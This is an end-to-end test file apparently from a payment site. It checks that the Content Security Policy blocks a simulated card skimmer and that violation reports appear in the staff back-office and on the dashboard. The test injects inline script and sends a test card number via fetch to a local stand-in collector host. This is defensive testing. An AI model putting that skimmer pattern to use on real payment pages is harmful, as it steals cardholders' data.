import { randomUUID } from 'node:crypto';
import type { Browser, Page } from '@playwright/test';
import { CSP_REPORTS_TEXT as T } from '../content/staff-security';
import { expect, test } from './support/fixtures';
import { E2E } from './support/settings';
import { signInBeforeEach } from './support/staff';

/**
 * Tamper detection on the payment page (PCI DSS 11.6.1): what a skimmer injected into the page
 * would do (run inline code, send data to its own host) is blocked by the page's CSP, the browser
 * reports it to POST /api/csp-report, and admins see it in the back-office and on the dashboard.
 * Plain HTTP here, so the browser reports through `report-uri`.
 */
test.slow();
signInBeforeEach(test, '198.18.42');

/** A visitor's browser on the payment page, with a "skimmer" that tries to run and phone home. */
async function tamperWithPaymentPage(browser: Browser, collector: string) {
  const visitor = await browser.newContext();
  const page = await visitor.newPage();
  await page.goto('/online-payment');
  const outcome = await page.evaluate(async (url) => {
    const script = document.createElement('script');
    script.textContent = 'window.__skimmed = true;';
    document.body.append(script);
    const sent = await fetch(url, { method: 'POST', body: 'card=4111111111111111' }).then(
      () => true,
      () => false,
    );
    return { ran: (window as { __skimmed?: boolean }).__skimmed === true, sent };
  }, collector);
  // Give the browser a moment to send its reports before the context goes away.
  await page.waitForTimeout(500);
  await visitor.close();
  return outcome;
}

const reportRow = (page: Page, blocked: string) =>
  page.getByRole('row').filter({ has: page.getByText(blocked, { exact: true }) });

test('a blocked skimmer on the payment page reaches the back-office and the dashboard', async ({
  page,
  browser,
}) => {
  const collector = `http://127.0.0.1:${E2E.standInHttpPort}/collect-${randomUUID()}`;
  expect(await tamperWithPaymentPage(browser, collector)).toEqual({ ran: false, sent: false });

  await expect(async () => {
    await page.goto('/staff/csp-reports');
    await expect(reportRow(page, collector)).toBeVisible({ timeout: 1000 });
  }).toPass({ timeout: 30_000 });
  const row = reportRow(page, collector);
  await expect(row).toContainText('/online-payment');
  await expect(row).toContainText(`${T.rule}: connect-src`);
  await expect(row).toContainText(T.unreviewed);
  await expect(row.getByRole('cell').nth(3)).toHaveText('1');
  // The injected inline code is reported too.
  await expect(
    page
      .getByRole('row')
      .filter({ hasText: `${T.rule}: script-src-elem` })
      .filter({ hasText: '/online-payment' })
      .first(),
  ).toBeVisible();

  // A repeat of the same violation is counted on the same row.
  await tamperWithPaymentPage(browser, collector);
  await expect(async () => {
    await page.goto('/staff/csp-reports');
    await expect(reportRow(page, collector).getByRole('cell').nth(3)).toHaveText('2', {
      timeout: 1000,
    });
  }).toPass({ timeout: 30_000 });

  // The dashboard warns and links to the list.
  await page.goto('/staff');
  const warning = page.getByRole('link', { name: /unreviewed CSP reports? from the payment page/ });
  await expect(warning).toBeVisible();
  await warning.click();
  await expect(page.getByRole('heading', { level: 1, name: T.title })).toBeVisible();

  // Reviewing every payment-page report clears the warning.
  const pending = page.getByRole('button', { name: /^Mark reviewed .* on \/online-payment$/ });
  for (let left = await pending.count(); left > 0; left -= 1) {
    await pending.first().click();
    await expect(pending).toHaveCount(left - 1);
  }
  await expect(page.getByRole('status')).toHaveText(T.outcomes.reviewed!);
  await expect(reportRow(page, collector)).toContainText('Reviewed by');
  await page.goto('/staff');
  await expect(page.getByRole('heading', { level: 1, name: 'Dashboard' })).toBeVisible();
  await expect(warning).toHaveCount(0);
  // Ends on the list, for the axe scan.
  await page.goto('/staff/csp-reports');
});
